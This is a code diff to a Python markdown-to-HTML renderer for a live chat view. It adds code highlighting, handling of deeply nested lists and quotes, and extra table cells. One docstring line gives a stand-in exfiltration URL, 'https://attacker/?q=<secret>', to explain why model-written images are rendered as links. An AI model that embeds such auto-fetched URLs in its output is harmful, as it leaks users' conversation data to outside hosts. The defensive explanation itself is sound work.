@@ -8,6 +8,11 @@ http, https, mailto, relative URLs and ``#anchors``; links open in a new tab wit
 written by the model is a known way to leak data from the conversation (the browser would
 fetch ``https://attacker/?q=<secret>`` on its own).
 
+No text of the answer is lost: past markdown-it's nesting limit (a list nested about nine
+levels deep, a quote eighteen) the parser would drop the rest of the document, so the rest of
+such a deep container is shown as written in a ``<pre class="evo-deep">``; a table row with
+more cells than its header keeps the extra cells; an image's title stays in its link.
+
 :class:`MarkdownStream` turns a growing document into small deltas for the live view: HTML of
 finished top-level blocks is sent once, and the unfinished last block is sent as
 ``keep`` (UTF-16 code units of the previous tail HTML that stay) + ``append`` (the new rest).
@@ -26,11 +31,14 @@ from functools import cache
 from typing import TYPE_CHECKING, Any
 from urllib.parse import unquote
 
+from .highlight import highlight
+
 if TYPE_CHECKING:
     from collections.abc import Sequence
 
     from markdown_it import MarkdownIt
     from markdown_it.renderer import RendererHTML
+    from markdown_it.rules_block import StateBlock
     from markdown_it.token import Token
     from markdown_it.utils import OptionsDict
 
@@ -54,6 +62,11 @@ _BLOCK_START = re.compile(r" {0,3}(?:[-+*]\s|\d{1,9}[.)]\s|#{1,6}\s|>|\|)")  # l
 _MARKS = "*_~"
 _DANGLING = re.compile(r"(?<!\S)[*_~`]+\Z")
 
+#: A list opens two levels (list, item) before its content is parsed, a quote one: from this
+#: many levels under markdown-it's ``maxNesting`` on, the rest of a container is shown as written.
+DEEP_MARGIN = 2
+DEEP_TITLE = "nested too deeply to lay out: shown as written"
+
 
 def is_safe_link(url: str) -> bool:
     """True for http(s) and mailto URLs, relative URLs and ``#anchors``; False for any other scheme.
@@ -74,13 +87,96 @@ def _link_open(self: RendererHTML, tokens: Sequence[Token], idx: int, options: O
     return self.renderToken(tokens, idx, options, env)
 
 
+def _plain(tokens: Sequence[Token]) -> str:
+    """The text of inline tokens (an image's alt text), code spans and line breaks included."""
+    out = []
+    for token in tokens:
+        if token.type in ("text", "code_inline"):
+            out.append(token.content)
+        elif token.type in ("softbreak", "hardbreak"):
+            out.append("\n")
+        elif token.children:
+            out.append(_plain(token.children))
+    return "".join(out)
+
+
 def _image(self: RendererHTML, tokens: Sequence[Token], idx: int, options: OptionsDict, env: Any) -> str:
     token = tokens[idx]
-    alt = html.escape(self.renderInlineAsText(token.children or [], options, env)) or "image"
+    alt = html.escape(_plain(token.children or [])) or "image"
     src = str(token.attrGet("src") or "")
     if not src:
         return f"[{alt}]"
-    return f'<a class="evo-image-link" href="{html.escape(src)}" rel="{LINK_REL}" target="_blank">[image: {alt}]</a>'
+    title = token.attrGet("title")
+    tip = f' title="{html.escape(str(title))}"' if title else ""
+    link = f'<a class="evo-image-link" href="{html.escape(src)}"{tip} rel="{LINK_REL}" target="_blank">'
+    return f"{link}[image: {alt}]</a>"
+
+
+def _fence(self: RendererHTML, tokens: Sequence[Token], idx: int, options: OptionsDict, env: Any) -> str:
+    """A fenced code block, highlighted by Pygments when its language is known (unless the
+    ``env`` says ``highlight=False``: the open tail of a streamed answer)."""
+    from markdown_it.common.utils import unescapeAll
+
+    token = tokens[idx]
+    info = unescapeAll(token.info).strip()
+    language = info.split(maxsplit=1)[0] if info else ""
+    code = highlight(token.content, language) if env.get("highlight", True) else None
+    if code is None:
+        return self.fence(tokens, idx, options, env)
+    return f'<pre><code class="language-{html.escape(language)} evo-hl">{code}</code></pre>\n'
+
+
+def _too_deep(state: StateBlock, start: int, end: int, silent: bool) -> bool:
+    """Block rule, first of all: where one more list or quote could pass markdown-it's nesting
+    limit (past it, the parser drops the rest of the document), show the rest of this
+    container as written, in a ``<pre class="evo-deep">``, instead of losing it."""
+    if silent or state.level < state.md.options["maxNesting"] - DEEP_MARGIN:
+        return False
+    line = last = start
+    while line < end and (state.isEmpty(line) or state.sCount[line] >= state.blkIndent):
+        line += 1
+        if not state.isEmpty(line - 1):
+            last = line
+    token = state.push("evo_deep", "pre", 0)
+    token.content = state.getLines(start, last, state.blkIndent, False)
+    token.map = [start, last]
+    state.line = last
+    return True
+
+
+def _render_deep(self: RendererHTML, tokens: Sequence[Token], idx: int, options: OptionsDict, env: Any) -> str:
+    return f'<pre class="evo-deep" title="{DEEP_TITLE}">{html.escape(tokens[idx].content, quote=False)}</pre>\n'
+
+
+def _table(state: StateBlock, start: int, end: int, silent: bool) -> bool:
+    """markdown-it's GFM table rule, but a body row with more cells than the header keeps them
+    all (the rule drops the extra cells, and with them text of the answer)."""
+    from markdown_it.rules_block.table import escapedSplit, getLine, table
+    from markdown_it.token import Token
+
+    first = len(state.tokens)
+    if silent or not table(state, start, end, False):
+        return silent and table(state, start, end, True)
+    tokens = state.tokens
+    columns = sum(t.type == "th_open" for t in tokens[first:])
+    for i in range(len(tokens) - 1, first, -1):
+        row = tokens[i]
+        if row.type != "tr_open" or not row.map or row.map[0] == start:
+            continue
+        cells = escapedSplit(getLine(state, row.map[0]).strip())
+        cells = cells[1:] if cells and not cells[0].strip() else cells
+        cells = cells[:-1] if cells and not cells[-1].strip() else cells
+        extra: list[Token] = []
+        for text in cells[columns:]:
+            level = row.level + 1
+            extra += [
+                Token("td_open", "td", 1, level=level, block=True),
+                Token("inline", "", 0, level=level + 1, content=text.strip(), map=row.map, children=[], block=True),
+                Token("td_close", "td", -1, level=level, block=True),
+            ]
+        close = next(j for j in range(i, len(tokens)) if tokens[j].type == "tr_close")
+        tokens[close:close] = extra
+    return True
 
 
 @cache
@@ -89,27 +185,32 @@ def _md() -> MarkdownIt:
     from markdown_it import MarkdownIt
 
     md = MarkdownIt("commonmark", {"html": False, "linkify": False, "typographer": False})
+    md.block.ruler.at("table", _table, {"alt": ["paragraph", "reference"]})
     md.enable("table").enable("strikethrough")
+    md.block.ruler.before("table", "evo_deep", _too_deep)
     md.validateLink = is_safe_link  # type: ignore[method-assign]
     md.add_render_rule("link_open", _link_open)
     md.add_render_rule("image", _image)
+    md.add_render_rule("fence", _fence)
+    md.add_render_rule("evo_deep", _render_deep)
     return md
 
 
-def render_markdown(text: str, references: dict[str, Any] | None = None) -> str:
-    """Safe HTML for markdown ``text``.
+def render_markdown(text: str, references: dict[str, Any] | None = None, *, highlight: bool = True) -> str:
+    """Safe HTML for markdown ``text``; code blocks in a known language are highlighted
+    (:mod:`evo_magic.highlight`) unless ``highlight`` is False.
 
     ``references`` (link reference definitions, markdown-it's ``env["references"]``) are
     known before parsing and receive the definitions ``text`` adds; :class:`MarkdownStream`
     uses it to carry definitions from one committed part to the next.
     """
-    env: dict[str, Any] = {"references": references if references is not None else {}}
+    env: dict[str, Any] = {"references": references if references is not None else {}, "highlight": highlight}
     return _md().render(text, env)
 
 
 def utf16_len(text: str) -> int:
     """Length of ``text`` in UTF-16 code units, the unit of JavaScript string indexes."""
-    return len(text.encode("utf-16-le")) // 2
+    return len(text.encode("utf-16-le", "surrogatepass")) // 2
 
 
 def common_prefix(a: str, b: str) -> int:
@@ -167,6 +268,9 @@ class MarkdownStream:
     costs O(tail), and the bytes sent grow linearly even for one huge block (a long code
     fence or list), because the tail goes out as keep + append.
 
+    Committed blocks are rendered as the final answer is (code highlighted); the open tail is
+    not highlighted, so a code block being written costs no Pygments run per update.
+
     Harmless difference from rendering the whole document at once: a reference-style link
     whose definition arrives after the block using it was committed stays unresolved (the
     final static render resolves it).
@@ -208,7 +312,7 @@ class MarkdownStream:
                 moved, old_tail = utf16_len(block), old_tail[len(block) :]
             else:
                 committed = (block,)
-        new_tail = render_markdown(source[self._committed :], dict(self._references))
+        new_tail = render_markdown(source[self._committed :], dict(self._references), highlight=False)
         same = common_prefix(old_tail, new_tail)
         self._tail_html = new_tail
         self._tail_units = utf16_len(new_tail)
